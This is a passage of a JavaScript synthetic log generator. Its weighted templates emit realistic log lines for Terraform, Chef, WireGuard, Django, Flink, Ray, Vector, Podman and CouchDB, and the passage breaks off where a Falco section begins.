    t(3, (r) => { const a = res(r); return `${a}: Modifying... [id=${tfId(r, a)}]`; }),
    t(2, (r) => { const a = res(r); return `${a}: Still modifying... [id=${tfId(r, a)}, ${r.int(1, 30) * 10}s elapsed]`; }),
    t(3, (r) => { const a = res(r); return `${a}: Modifications complete after ${goDur(r, 300)} [id=${tfId(r, a)}]`; }),
    t(2, (r) => { const a = res(r); return `${a}: Destroying... [id=${tfId(r, a)}]`; }),
    t(2, (r) => { const a = res(r); return `${a}: Still destroying... [id=${tfId(r, a)}, ${r.int(1, 30) * 10}s elapsed]`; }),
    t(2, (r) => `${res(r)}: Destruction complete after ${goDur(r, 300)}`),
    t(3, (r) => `  # ${res(r)} will be created`),
    t(2, (r) => `  # ${res(r)} will be updated in-place`),
    t(1, (r) => `  # ${res(r)} will be destroyed`),
    t(1, (r) => `  # ${res(r)} must be replaced`),
    t(1, (r) => `Plan: ${r.int(0, 40)} to add, ${r.int(0, 12)} to change, ${r.int(0, 9)} to destroy.`),
    t(1, (r) => `Apply complete! Resources: ${r.int(0, 40)} added, ${r.int(0, 12)} changed, ${r.int(0, 9)} destroyed.`),
    t(1, (r) => { const [p, vs] = skew(r, PROVIDERS, 0.5); return `- Installing ${p} v${r.pick(vs)}...`; }),
    t(1, (r) => { const [p, vs] = skew(r, PROVIDERS, 0.5); return `- Installed ${p} v${r.pick(vs)} (signed by HashiCorp)`; }),
    t(0.8, (r) => `│ Error: ${r.pick(TF_ERR)(r)}`),
    t(0.8, (r) => `│   with ${res(r)},`),
    t(0.8, (r) => { const a = res(r).replace(/^module\.[a-z]+\./, '').replace(/\[.*\]$/, ''); const [ty, nm] = a.split('.'); return `│   on ${r.pick(TF_FILES)} line ${r.int(1, 240)}, in resource "${ty}" "${nm}":`; }),
  ] },
  { name: 'chef-client', templates: [
    t(25, (r) => { const [res, acts] = r.pick(CHEF_RES); return `${ch(r, 'INFO')}Processing ${res(r)} action ${r.pick(acts)} (${r.pick(RECIPES)} line ${r.int(3, 140)})`; }),
    t(4, (r) => { const [p, v] = r.pick(PKGS); return `${ch(r, 'INFO')}package[${p}] installed ${p} at ${v}`; }),
    t(2, (r) => { const [p, v] = r.pick(PKGS); return `${ch(r, 'INFO')}package[${p}] upgraded ${p} from ${v.replace(/\d+$/, (x) => String(Math.max(0, Number(x) - 1)))} to ${v}`; }),
    t(3, (r) => { const f = r.pick(TPLS); return `${ch(r, 'INFO')}template[${f}] backed up to /var/chef/backup${f}.chef-2026${r.next() < 0.8 ? '12' : '11'}${d2(r.int(1, 28))}${d2(r.int(0, 23))}${d2(r.int(0, 59))}${d2(r.int(0, 59))}.${pad(r.int(0, 999999), 6)}`; }),
    t(4, (r) => { const f = r.pick(TPLS); return `${ch(r, 'INFO')}template[${f}] updated file contents ${f}`; }),
    t(2, (r) => { const f = r.pick(['/etc/motd', '/etc/sudoers.d/deploy', '/usr/local/bin/backup.sh', '/etc/shop/env']); return `${ch(r, 'INFO')}${r.pick(['file', 'cookbook_file'])}[${f}] created file ${f}`; }),
    t(2, (r) => `${ch(r, 'INFO')}${r.next() < 0.6 ? `template[${r.pick(TPLS)}]` : `package[${r.pick(PKGS)[0]}]`} sending ${r.pick(['restart', 'reload', 'restart'])} action to service[${r.pick(SVCS)}] (delayed)`),
    t(2, (r) => `${ch(r, 'INFO')}service[${r.pick(SVCS)}] restarted`),
    t(2, (r) => `${ch(r, 'INFO')}service[${r.pick(SVCS)}] reloaded`),
    t(1, (r) => `${ch(r, 'INFO')}service[${r.pick(SVCS)}] started`),
    t(1, (r) => `${ch(r, 'INFO')}service[${r.pick(SVCS)}] enabled`),
    t(2, (r) => `${ch(r, 'INFO')}${r.next() < 0.7 ? 'execute' : 'bash'}[${r.pick(EXECS)}] ran successfully`),
    t(1, (r) => { const d = r.pick(['/var/www/shop', '/opt/node_exporter', '/etc/shop', '/var/log/shop']); return `${ch(r, 'INFO')}directory[${d}] created directory ${d}`; }),
    t(0.5, (r) => `${ch(r, 'INFO')}user[${r.pick(['deploy', 'shop', 'node_exporter'])}] created`),
    t(1, (r) => `${ch(r, 'INFO')}Starting Chef Infra Client Run for ${chefNode(r)}`),
    t(1, (r) => `${ch(r, 'INFO')}Run List is [${['role[base]', ...some(r, ['role[web]', 'recipe[nginx::site]', 'role[worker]', 'recipe[monitoring::node_exporter]', 'role[db]'], 0, 3)].join(', ')}]`),
    t(1, (r) => `${ch(r, 'INFO')}Run List expands to [${some(r, RECIPES, 2, 6).join(', ')}]`),
    t(1, (r) => `${ch(r, 'INFO')}Loading cookbooks [${some(r, ['base@1.4.2', 'nginx@12.2.0', 'shop@0.9.17', 'monitoring@2.0.1', 'chrony@0.4.0', 'apt@7.5.22'], 2, 6).join(', ')}]`),
    t(1, (r) => `${ch(r, 'INFO')}Chef Infra Client Run complete in ${r.float(4, 900, 6)} seconds`),
    t(1, (r) => `${ch(r, 'INFO')}Running report handlers`),
    t(1, (r) => `${ch(r, 'INFO')}Report handlers complete`),
    t(0.5, (r) => `${ch(r, 'ERROR')}Running exception handlers`),
    t(0.5, (r) => `${ch(r, 'FATAL')}Stacktrace dumped to /var/chef/cache/chef-stacktrace${r.next() < 0.5 ? '' : `-${r.hex(8)}`}.out`),
  ] },
  { name: 'wireguard', templates: [
    t(8, (r) => `${wg(r)}Receiving handshake initiation from peer ${peer(r)} (${wgEp(r)})`),
    t(8, (r) => `${wg(r)}Sending handshake response to peer ${peer(r)} (${wgEp(r)})`),
    t(6, (r) => `${wg(r)}Sending handshake initiation to peer ${peer(r)} (${wgEp(r)})`),
    t(6, (r) => `${wg(r)}Receiving handshake response from peer ${peer(r)} (${wgEp(r)})`),
    t(8, (r) => `${wg(r)}Keypair ${r.int(1, 90000)} created for peer ${peer(r)}`),
    t(8, (r) => `${wg(r)}Keypair ${r.int(1, 90000)} destroyed for peer ${peer(r)}`),
    t(14, (r) => `${wg(r)}Sending keepalive packet to peer ${peer(r)} (${wgEp(r)})`),
    t(14, (r) => `${wg(r)}Receiving keepalive packet from peer ${peer(r)} (${wgEp(r)})`),
    t(4, (r) => `${wg(r)}Handshake for peer ${peer(r)} (${wgEp(r)}) did not complete after 5 seconds, retrying (try ${r.int(2, 20)})`),
    t(1, (r) => `${wg(r)}Handshake for peer ${peer(r)} (${wgEp(r)}) did not complete after 20 attempts, giving up`),
    t(3, (r) => `${wg(r)}Retrying handshake with peer ${peer(r)} (${wgEp(r)}) because we stopped hearing back after 15 seconds`),
    t(2, (r) => `${wg(r)}Zeroing out all keys for peer ${peer(r)} (${wgEp(r)}), since we haven't received a new one in 540 seconds`),
    t(2, (r) => `${wg(r)}Invalid handshake initiation from ${wgEp(r)}`),
    t(2, (r) => `${wg(r)}Packet has unallowed src IP (${r.next() < 0.5 ? `10.9.0.${r.int(2, 250)}` : `fd00:9::${r.hex(3)}`}) from peer ${peer(r)} (${wgEp(r)})`),
    t(1, (r) => `${wg(r)}Peer ${peer(r)} created`),
    t(1, (r) => `${wg(r)}Peer ${peer(r)} (${wgEp(r)}) destroyed`),
    t(0.4, (r) => `${syslog(r, ['vpn-gw', 'edge-1'], 'kernel')}[${String(r.int(1, 99)).padStart(5, ' ')}.${usec(r)}] wireguard: WireGuard 1.0.0 loaded. See www.wireguard.com for information.`),
    t(0.4, (r) => `${syslog(r, ['vpn-gw', 'edge-1'], 'kernel')}[${String(r.int(1, 99)).padStart(5, ' ')}.${usec(r)}] wireguard: Copyright (C) 2015-2019 Jason A. Donenfeld <Jason@zx2c4.com>. All Rights Reserved.`),
  ] },
  { name: 'django', templates: [
    t(25, (r) => { const s = djStatus(r, false); return `${dj(r, djLvl(s), 'basehttp')}"GET ${djPath(r)} HTTP/1.1" ${s} ${s === 304 ? 0 : r.int(20, 90000)}`; }),
    t(7, (r) => { const s = djStatus(r, true); return `${dj(r, djLvl(s), 'basehttp')}"POST ${djPath(r)} HTTP/1.1" ${s} ${r.int(0, 9000)}`; }),
    t(2, (r) => { const s = djStatus(r, true); return `${dj(r, djLvl(s), 'basehttp')}"PATCH /api/orders/${r.int(1, 99999)}/ HTTP/1.1" ${s} ${r.int(0, 9000)}`; }),
    t(1, (r) => { const s = r.pick([204, 204, 404, 403]); return `${dj(r, djLvl(s), 'basehttp')}"DELETE /api/cart/items/${r.int(1, 9999)}/ HTTP/1.1" ${s} ${s === 204 ? 0 : r.int(20, 200)}`; }),
    t(5, (r) => `${dj(r, 'WARNING', 'log')}Not Found: ${djPath(r)}`),
    t(2, (r) => `${dj(r, 'ERROR', 'log')}Internal Server Error: ${djPath(r)}`),
    t(2, (r) => `${dj(r, 'WARNING', 'log')}Bad Request: ${djPath(r)}`),
    t(3, (r) => `${dj(r, 'WARNING', 'log')}Unauthorized: ${djPath(r)}`),
    t(2, (r) => `${dj(r, 'WARNING', 'log')}Forbidden (${r.pick(CSRF)}): ${djPath(r)}`),
    t(14, (r) => { const [sql, args] = r.pick(DJ_SQL)(r); return `${dj(r, 'DEBUG', 'utils')}(${r.float(0, r.next() < 0.9 ? 0.01 : 2, 3)}) ${sql}; args=${args}; alias=default`; }),
    t(1.5, (r) => { const h = r.pick(['45.155.205.233', 'localhost:8000', 'shop.internal', 'example.com.evil.test', '0.0.0.0']); return `${dj(r, 'ERROR', 'exception')}Invalid HTTP_HOST header: '${h}'. You may need to add '${h}' to ALLOWED_HOSTS.`; }),
    t(4, (r) => `${dj(r, 'INFO', 'tasks')}Sent receipt for order ${r.int(1000, 99999)} to ${email(r)}`),
    t(2, (r) => `${dj(r, 'WARNING', 'views')}Payment declined for order ${r.int(1000, 99999)}: ${r.pick(['Your card was declined.', 'Your card has insufficient funds.', 'Your card has expired.', "Your card's security code is incorrect."])}`),
    t(0.6, (r) => `${dj(r, 'INFO', 'autoreload')}Watching for file changes with StatReloader`),
    t(0.6, (r) => `${dj(r, 'INFO', 'autoreload')}${r.pick(['/app/shop/views.py', '/app/shop/models.py', '/app/config/settings.py', '/app/shop/api/serializers.py'])} changed, reloading.`),
  ] },
  { name: 'flink', templates: [
    t(30, (r) => { const { i, n } = fsub(r); const a = r.int(0, 5); return `${fl(r, 'INFO', F_EG)}${r.pick(VERTS)} (${i}/${n}) (${fatt(r, i)}) switched from ${FST[a]} to ${FST[Math.min(8, a + r.int(1, 2))]}.`; }),
    t(8, (r) => { const { i, n } = fsub(r); const v = r.hex(32); return `${fl(r, 'INFO', F_EG)}Deploying ${r.pick(VERTS)} (${i}/${n}) (attempt #${r.next() < 0.85 ? 0 : r.int(1, 5)}) with attempt id ${fatt(r, i)} and vertex id ${v}_${i - 1} to ${ftm(r)} @ ${fhost(r)} (dataPort=${r.int(30000, 45000)}) with allocation id ${r.hex(32)}`; }),
    t(2, (r) => { const { i, n } = fsub(r); return `${fl(r, 'INFO', F_EG)}${r.pick(VERTS)} (${i}/${n}) (${fatt(r, i)}) switched from RUNNING to FAILED on ${ftm(r)} @ ${fhost(r)} (dataPort=${r.int(30000, 45000)}).`; }),
    t(3, (r) => { const a = r.int(0, 4); return `${fl(r, 'INFO', F_EG)}Job ${skew(r, FJOBS, 0.5)} (${fjid(r)}) switched from state ${['CREATED', 'RUNNING', 'RESTARTING', 'FAILING', 'CANCELLING'][a]} to ${r.pick(['RUNNING', 'RESTARTING', 'FAILED', 'CANCELED', 'FINISHED'])}.`; }),
    t(8, (r) => `${fl(r, 'INFO', F_CC)}Triggering checkpoint ${r.int(1, 40000)} (type=CheckpointType{name='Checkpoint', sharingFilesStrategy=FORWARD_BACKWARD}) @ ${1796601600000 + r.int(0, 259200000)} for job ${fjid(r)}.`),
    t(8, (r) => `${fl(r, 'INFO', F_CC)}Completed checkpoint ${r.int(1, 40000)} for job ${fjid(r)} (${r.int(4000, 900000000)} bytes, checkpointDuration=${r.int(20, 90000)} ms, finalizationTime=${r.int(0, 90)} ms).`),
    t(1, (r) => `${fl(r, 'INFO', F_CC)}Checkpoint ${r.int(1, 40000)} of job ${fjid(r)} expired before completing.`),
    t(1, (r) => { const { i } = fsub(r); return `${fl(r, 'INFO', F_CC)}Decline checkpoint ${r.int(1, 40000)} by task ${fatt(r, i)} of job ${fjid(r)} at ${ftm(r)} @ ${fhost(r)} (dataPort=${r.int(30000, 45000)}).`; }),
    t(2, (r) => `${fl(r, 'INFO', F_SM)}Received resource requirements from job ${fjid(r)}: [ResourceRequirement{resourceProfile=ResourceProfile{UNKNOWN}, numberOfRequiredSlots=${r.pick([1, 2, 4, 8, 16])}}]`),
    t(1, (r) => `${fl(r, 'INFO', F_RM)}Registering TaskManager with ResourceID ${ftm(r)} (pekko.tcp://flink@10.0.${r.int(4, 7)}.${r.int(10, 60)}:6122/user/rpc/taskmanager_0) at ResourceManager`),
    t(1, (r) => `${fl(r, 'INFO', F_RM)}Closing TaskExecutor connection ${ftm(r)} because: ${r.pick(FCAUSES)}`),
    t(1, (r) => `${fl(r, 'INFO', F_FS)}Calculating tasks to restart to recover the failed task ${r.hex(32)}_${r.int(0, 7)}.`),
    t(1, (r) => `${fl(r, 'INFO', F_FS)}${r.int(1, 64)} tasks should be restarted to recover the failed task ${fatt(r, r.int(1, 8))}.`),
    t(4, (r) => { const { i, n } = fsub(r); return `${fl(r, 'INFO', F_TE)}Received task ${r.pick(VERTS)} (${i}/${n})#${r.next() < 0.85 ? 0 : r.int(1, 5)} (${fatt(r, i)}), deploy into slot with allocation id ${r.hex(32)}.`; }),
    t(3, (r) => { const { i, n } = fsub(r); const a = r.int(2, 5); return `${fl(r, 'INFO', F_TK)}${r.pick(VERTS)} (${i}/${n})#${r.next() < 0.85 ? 0 : r.int(1, 5)} (${fatt(r, i)}) switched from ${FST[a]} to ${FST[Math.min(8, a + r.int(1, 3))]}.`; }),
    t(3, (r) => { const { i, n } = fsub(r); return `${fl(r, 'INFO', F_TK)}Freeing task resources for ${r.pick(VERTS)} (${i}/${n})#${r.next() < 0.85 ? 0 : r.int(1, 5)} (${fatt(r, i)}).`; }),
    t(2, (r) => { const { i, n } = fsub(r); return `${fl(r, 'INFO', F_TE)}Un-registering task and sending final execution state ${r.pick(['FINISHED', 'CANCELED', 'FAILED'])} to JobManager for task ${r.pick(VERTS)} (${i}/${n})#${r.next() < 0.85 ? 0 : r.int(1, 5)} ${fatt(r, i)}.`; }),
    t(3, (r) => { const g = r.pick(['orders-enrichment', 'click-sessionizer']); const k = r.int(0, 2); return `${fl(r, 'INFO', F_KC)}[Consumer clientId=${g}-${r.int(0, 7)}, groupId=${g}] Resetting offset for partition ${r.pick(['orders', 'clicks', 'payments.v2'])}-${r.int(0, 11)} to position FetchPosition{offset=${r.int(0, 90000000)}, offsetEpoch=Optional.empty, currentLeader=LeaderAndEpoch{leader=Optional[kafka-${k}.kafka:9092 (id: ${k} rack: ${r.next() < 0.6 ? 'null' : `eu-west-1${r.pick(['a', 'b', 'c'])}`})], epoch=${r.int(0, 90)}}}.`; }),
  ] },
  { name: 'ray', templates: [
    t(10, (r) => `${ry(r, 'INFO', 'autoscaler.py:147')}The autoscaler took ${r.float(0, 2, 3)} seconds to fetch the list of non-terminated nodes.`),
    t(6, (r) => `${ry(r, 'INFO', 'autoscaler.py:469')}Resized to ${r.int(1, 64) * 8} CPUs, ${r.pick([0, 0, 1, 4, 8, 16])} GPUs.`),
    t(4, (r) => { const n = r.int(1, 12); return `${ry(r, 'INFO', 'autoscaler.py:1356')}StandardAutoscaler: Queue ${n} new nodes for launch`; }),
    t(4, (r) => `${ry(r, 'INFO', 'node_launcher.py:177')}NodeLauncher${r.int(0, 1)}: Got ${r.int(1, 12)} nodes to launch.`),
    t(4, (r) => `${ry(r, 'INFO', 'node_launcher.py:177')}NodeLauncher${r.int(0, 1)}: Launching ${r.int(1, 12)} nodes, type ${skew(r, RTYPES, 0.4)}.`),
    t(3, (r) => `${ry(r, 'INFO', 'autoscaler.py:671')}StandardAutoscaler: Terminating the node with id ${rayNode(r)} and ip ${rayIp(r)}. (${r.pick(['idle', 'idle', 'idle', 'outdated', 'max_workers_per_type', 'launch failed'])})`),
    t(2, (r) => `${ry(r, 'WARNING', 'resource_demand_scheduler.py:805')}The autoscaler could not find a node type to satisfy the request: [${some(r, RAY_RES, 1, 4).join(', ')}]. Please specify a node type with the necessary resources.`),
    t(3, (r) => `${ry(r, 'INFO', 'updater.py:323')}New status: ${r.pick(['waiting-for-ssh', 'setting-up', 'syncing-files', 'up-to-date', 'update-failed'])}`),
    t(3, (r) => `${ry(r, 'INFO', 'worker.py:1777')}Connecting to existing Ray cluster at address: ${skew(r, ['10.0.1.10', '10.0.2.44'], 0.8)}:6379...`),
    t(3, (r) => `${ry(r, 'INFO', 'worker.py:1952')}Connected to Ray cluster. View the dashboard at ${skew(r, ['10.0.1.10', '10.0.2.44', '127.0.0.1'], 0.7)}:8265`),
    t(1, (r) => `${ry(r, 'INFO', 'worker.py:1821')}Started a local Ray instance. View the dashboard at 127.0.0.1:8265`),
    t(3, (r) => `${ry(r, 'INFO', 'streaming_executor.py:108')}Starting execution of Dataset. Full logs are in /tmp/ray/session_2026-12-${d2(r.int(1, 7))}_${d2(r.int(0, 23))}-${d2(r.int(0, 59))}-${d2(r.int(0, 59))}_${pad(r.int(0, 999999), 6)}_${r.int(1, 9999)}/logs/ray-data`),
    t(3, (r) => `${ry(r, 'INFO', 'streaming_executor.py:109')}Execution plan of Dataset: InputDataBuffer[Input] -> ${some(r, RAY_OPS, 1, 5).join(' -> ')}`),
    t(2, (r) => `${ry(r, 'WARNING', 'worker.py:2245')}A worker died or was killed while executing a task by an unexpected system error. To troubleshoot the problem, check the logs for the dead worker. RayTask ID: ${r.hex(48)} Worker ID: ${r.hex(56)} Node ID: ${r.hex(56)} Worker IP address: ${rayIp(r)} Worker port: ${r.int(10002, 10999)} Worker PID: ${r.int(300, 90000)} Worker exit type: ${r.pick(['SYSTEM_ERROR', 'NODE_OUT_OF_MEMORY'])} Worker exit detail: ${r.pick(['Worker unexpectedly exits with a connection error code 2. End of file. There are some potential root causes.', 'Task was killed due to the node running low on memory.', 'The leased worker has unrecoverable failure. Worker is requested to be destroyed when it is returned.'])}`),
    t(2, (r) => `${ry(r, 'ERROR', 'worker.py:409')}Unhandled error (suppress with 'RAY_IGNORE_UNHANDLED_ERRORS=1'): ray::${r.pick(['embed_batch', 'Trainable.train', 'preprocess', 'MapBatches(Embedder)'])}() (pid=${r.int(300, 90000)}, ip=${rayIp(r)})`),
  ] },
  { name: 'vector', templates: [
    t(12, (r) => `${vc(r, 'INFO')}${vsrcFile(r)}: vector::internal_events::file::source: Found new file to watch. file=${podLog(r)}`),
    t(8, (r) => `${vc(r, 'INFO')}${vsrcFile(r)}: vector::internal_events::file::source: Stopped watching file. file=${podLog(r)}`),
    t(6, (r) => `${vc(r, 'WARN')}${vsnk(r)}:request{request_id=${r.int(1, 900000)}}: vector::sinks::util::retries: Retrying after error. error=${r.pick(VERR)(r)} internal_log_rate_limit=true`),
    t(4, (r) => { const id = r.int(1, 900000); return `${vc(r, 'ERROR')}${vsnk(r)}:request{request_id=${id}}: vector_common::internal_event::service: Service call failed. No retries or retries exhausted. error=${r.pick(VERR)(r)} request_id=${id} error_type="request_failed" stage="sending" internal_log_rate_limit=true`; }),
    t(4, (r) => `${vc(r, 'ERROR')}${vsnk(r)}: vector_common::internal_event::component_events_dropped: Events dropped intentional=false count=${r.int(1, 9000)} reason="Service call failed. No retries or retries exhausted." internal_log_rate_limit=true`),
    t(8, (r) => `${vc(r, 'ERROR')}${span('transform', r.next() < 0.7 ? VTR[0] : VTR[2])}: vector::internal_events::remap: Mapping failed with event. error=${JSON.stringify(r.pick(VRL)(r))} error_type="conversion_failed" stage="processing" internal_log_rate_limit=true`),
    t(6, (r) => { const k = r.int(0, VSUPP.length - 1); return `${vc(r, k === 1 || k === 4 ? 'WARN' : 'ERROR')}${vany(r)}: ${VMOD[k]}: Internal log [${VSUPP[k]}] is being suppressed to avoid flooding.`; }),
    t(6, (r) => { const k = r.int(0, VSUPP.length - 1); return `${vc(r, k === 1 || k === 4 ? 'WARN' : 'ERROR')}${vany(r)}: ${VMOD[k]}: Internal log [${VSUPP[k]}] has been suppressed ${r.int(1, 90000)} times.`; }),
    t(3, (r) => `${vc(r, 'WARN')}${span('source', VSRC[0])}: vector::internal_events::kubernetes_logs: Failed to annotate event with pod metadata. event=Log(LogEvent { inner: Inner { fields: Object({KeyString("file"): Bytes(b"${podLog(r)}"), KeyString("message"): Bytes(b"${r.pick(['GET /health 200', '{\\"level\\":\\"info\\"}', 'Starting worker'])}")}), size_cache: AtomicCell { value: None }, json_encoded_size_cache: AtomicCell { value: None } }, metadata: EventMetadata { .. } }) error_code="annotation_failed" error_type="reader_failed" stage="processing" internal_log_rate_limit=true`),
    t(1, (r) => `${vc(r, 'INFO')}vector::app: Log level is enabled. level="${r.pick(['info', 'info', 'debug', 'vector=info,codec=info,vrl=info,file_source=info,tower_limit=info,rdkafka=info,buffers=info,lapin=info,kube=info'])}"`),
    t(1, (r) => `${vc(r, 'INFO')}vector::app: Loading configs. paths=[${some(r, ['"/etc/vector/vector.yaml"', '"/etc/vector/conf.d"', '"/etc/vector/sinks.toml"'], 1, 2).join(', ')}]`),
    t(1, (r) => `${vc(r, 'INFO')}vector::topology::running: Running healthchecks.`),
    t(1, (r) => `${vc(r, 'INFO')}${vsnk(r)}: vector::topology::builder: Healthcheck passed.`),
    t(0.8, (r) => `${vc(r, 'ERROR')}${vsnk(r)}: vector::topology::builder: Healthcheck failed. error=${r.pick(VERR)(r)}`),
    t(0.6, (r) => `${vc(r, 'INFO')}vector: Vector has started. debug="false" version="${r.pick(['0.43.1', '0.44.0', '0.42.0'])}" arch="x86_64" revision="${r.hex(7)} 2026-${d2(r.int(9, 11))}-${d2(r.int(1, 28))} ${hms(r)}.${ms3(r)}${pad(r.int(0, 999999), 6)}"`),
    t(0.5, (r) => `${vc(r, 'INFO')}vector: Vector has reloaded. path=[File("/etc/vector/vector.yaml", None)${r.next() < 0.4 ? ', Dir("/etc/vector/conf.d")' : ''}]`),
    t(0.5, (r) => `${vc(r, 'INFO')}vector: Vector has stopped.`),
    t(0.5, (r) => `${vc(r, 'INFO')}vector::topology::running: Shutting down... Waiting on running components. remaining_components="${some(r, ['es_out', 'loki', 's3_archive', 'k8s_logs', 'parse_json'], 1, 3).join(', ')}" time_remaining="${r.int(1, 59)} seconds left"`),
  ] },
  { name: 'podman', templates: [
    t(3, (r) => { const c = pmCt(r); return `${pm(r)}container create ${c.id} ${attrs(c)}`; }),
    t(3, (r) => { const c = pmCt(r); return `${pm(r)}container init ${c.id} ${attrs(c)}`; }),
    t(4, (r) => { const c = pmCt(r); return `${pm(r)}container start ${c.id} ${attrs(c)}`; }),
    t(1, (r) => { const c = pmCt(r); return `${pm(r)}container attach ${c.id} ${attrs(c)}`; }),
    t(3, (r) => { const c = pmCt(r); return `${pm(r)}container died ${c.id} ${attrs(c)}`; }),
    t(2, (r) => { const c = pmCt(r); return `${pm(r)}container stop ${c.id} ${attrs(c)}`; }),
    t(3, (r) => { const c = pmCt(r); return `${pm(r)}container cleanup ${c.id} ${attrs(c)}`; }),
    t(2, (r) => { const c = pmCt(r); return `${pm(r)}container remove ${c.id} ${attrs(c)}`; }),
    t(16, (r) => { const c = pmCt(r); const ok = r.next() < 0.9; return `${pm(r)}container health_status ${c.id} ${attrs(c, `, health_status=${ok ? 'healthy' : skew(r, ['unhealthy', 'starting'])}, health_failing_streak=${ok ? 0 : r.int(1, 9)}, health_log=`)}`; }),
    t(10, (r) => { const c = pmCt(r); return `${pm(r)}container exec_died ${c.id} ${attrs(c, `, execID=${r.hex(64)}`)}`; }),
    t(2, (r) => { const c = pmCt(r); return `${pm(r)}image pull ${r.hex(64)} ${c.image}`; }),
    t(0.8, (r) => { const c = pmCt(r); return `${pm(r)}image remove ${r.hex(64)} ${c.image.replace(/:[^:]+$/, `:${r.pick(['1.26', '15', '11.2.0', '29-apache'])}`)}`; }),
    t(0.5, (r) => `${pm(r)}pod create ${r.hex(64)} (image=, name=${r.pick(['nextcloud', 'monitoring', 'wiki'])})`),
    t(0.5, (r) => `${pm(r)}pod start ${r.hex(64)} (image=, name=${r.pick(['nextcloud', 'monitoring', 'wiki'])})`),
    t(3, (r) => { const c = pmCt(r); return `${pmHost(r)}conmon[${r.int(1000, 900000)}]: conmon ${c.id.slice(0, 16)} <ninfo>: container ${r.int(1000, 900000)} exited with status ${r.pick([0, 0, 0, 1, 137, 143])}`; }),
    t(14, (r) => { const c = pmCt(r); return `${pmHost(r)}systemd[${r.next() < 0.8 ? 1 : r.int(1000, 5000)}]: Started ${r.next() < 0.85 ? `${c.id}-${r.hex(16)}.service - /usr/bin/podman healthcheck run ${c.id}` : `libpod-conmon-${c.id}.scope`}.`; }),
    t(14, (r) => { const c = pmCt(r); return `${pmHost(r)}systemd[${r.next() < 0.8 ? 1 : r.int(1000, 5000)}]: ${r.next() < 0.85 ? `${c.id}-${r.hex(16)}.service` : `libpod-${c.id}.scope`}: Deactivated successfully.`; }),
  ] },
  { name: 'couchdb', templates: [
    t(24, (r) => cdReq(r, 'GET', r.pick([`/${cdb(r)}/${docId(r)}`, `/${cdb(r)}/_all_docs?limit=${r.pick([10, 50, 100])}&include_docs=true`, `/${cdb(r)}/_design/${r.pick(DDOCS)}/_view/${r.pick(DDOCS)}?key=%22${r.pick(['open', 'paid', 'shipped'])}%22`, '/_up', `/${cdb(r)}/_changes?feed=longpoll&since=${r.int(1, 900000)}-${r.alnum(20)}&timeout=60000`, '/_session']), r.pick([200, 200, 200, 304, 404, 401]))),
    t(8, (r) => cdReq(r, 'PUT', `/${cdb(r)}/${docId(r)}`, r.pick([201, 201, 202, 409, 400]))),
    t(7, (r) => cdReq(r, 'POST', r.pick([`/${cdb(r)}/_bulk_docs`, `/${cdb(r)}/_find`, '/_session', `/${cdb(r)}/_bulk_get?latest=true&revs=true`, `/${cdb(r)}/_revs_diff`]), r.pick([200, 201, 200, 401, 400]))),
    t(2, (r) => cdReq(r, 'DELETE', `/${cdb(r)}/${docId(r)}?rev=${r.int(1, 40)}-${r.hex(32)}`, r.pick([200, 200, 409, 404]))),
    t(2, (r) => cdReq(r, 'HEAD', `/${cdb(r)}/${docId(r)}`, r.pick([200, 200, 404]))),
    t(3, (r) => { const [e, m] = r.pick([['unauthorized', 'Name or password is incorrect.'], ['not_found', 'missing'], ['not_found', 'deleted'], ['conflict', 'Document update conflict.'], ['bad_request', 'invalid UTF-8 JSON'], ['forbidden', 'You are not allowed to access this db.']]); return `${cd(r, 'error', true)}req_err(${r.int(100000000, 4294967295)}) ${e} : ${m}    [<<"${r.pick(['chttpd_auth_request:authorize_request/1 L45', 'chttpd_db:db_doc_req/3 L1210', 'chttpd:handle_req_after_auth/2 L420', 'fabric_doc_update:go/3 L45'])}">>,<<"chttpd:process_request/1 L${r.int(400, 460)}">>,<<"chttpd:handle_request_int/1 L${r.int(370, 390)}">>,<<"mochiweb_http:headers/6 L${r.int(120, 140)}">>,<<"proc_lib:init_p_do_apply/3 L${r.int(230, 260)}">>]`; }),
    t(4, (r) => `${cd(r, 'info', false)}Starting index update for db: ${shard(r)} idx: _design/${r.pick(DDOCS)}`),
    t(4, (r) => `${cd(r, 'info', false)}Index update finished for db: ${shard(r)} idx: _design/${r.pick(DDOCS)}`),
    t(2, (r) => `${cd(r, 'notice', false)}Starting compaction for db "${shard(r)}" at ${r.int(1, 900000)}`),
    t(2, (r) => `${cd(r, 'notice', false)}Compaction for db "${shard(r)}" completed.`),
    t(1, (r) => `${cd(r, 'error', false)}rexi_server: from: ${r.pick(CNODES)}(<0.${r.int(100, 99999)}.0>) mfa: fabric_rpc:${r.pick(['map_view/5', 'open_doc/3', 'changes/3', 'all_docs/3'])} ${r.pick(['exit:timeout', 'error:{badmatch,{error,eacces}}', 'exit:{noproc,{gen_server,call,[couch_server,open]}}'])} [{rexi,init_stream,1,[{file,"src/rexi.erl"},{line,${r.int(250, 290)}}]},{rexi,stream2,3,[{file,"src/rexi.erl"},{line,${r.int(190, 220)}}]}]`),
    t(1.5, (r) => `${cd(r, 'warning', false)}mem3_sync ${shard(r)} ${r.pick(CNODES)} {error,{nodedown,<<"progress not possible">>}}`),
    t(1, (r) => `${cd(r, 'notice', false)}config: [${r.pick(['log', 'couchdb', 'chttpd', 'compactions'])}] ${r.pick(['level', 'max_dbs_open', 'require_valid_user', '_default'])} set to ${r.pick(['info', 'debug', '500', 'true', '[{db_fragmentation, "70%"}, {view_fragmentation, "60%"}]'])} for reason nil`),
    t(0.8, (r) => `${cd(r, 'info', false)}Apache CouchDB has started on http://${r.pick(['0.0.0.0', '127.0.0.1', '10.0.4.11'])}:5984/`),
    t(1, (r) => `${cd(r, 'notice', false)}Starting replication ${r.hex(32)}+continuous (http://${r.pick(['db1', 'db2', 'edge-1'])}.example.com:5984/${cdb(r)}/ -> http://${r.pick(['db3', 'backup'])}.example.com:5984/${cdb(r)}/) from doc _replicator:${r.pick(['repl-users', 'repl-shop', r.hex(32)])} worker_processes:4 worker_batch_size:500 session_id:${r.hex(32)}`),
    t(0.8, (r) => `${cd(r, 'error', false)}Replication ${r.hex(32)}+continuous failed to start "http://${r.pick(['db1', 'edge-1'])}.example.com:5984/${cdb(r)}/" -> "http://backup.example.com:5984/${cdb(r)}/" doc <<"shards/00000000-ffffffff/_replicator.${1796000000 + r.int(0, 600000)}">>:<<"${r.pick(['repl-users', 'repl-shop'])}">> stack:[{couch_replicator_api_wrap,db_open,4,[{file,"src/couch_replicator_api_wrap.erl"},{line,${r.int(100, 130)}}]}]`),
    t(0.8, (r) => `${cd(r, 'error', false)}OS Process Error <0.${r.int(100, 99999)}.0> :: {os_process_error,{exit_status,${r.pick([1, 137, 143])}}}`),
  ] },
  { name: 'falco', templates: [
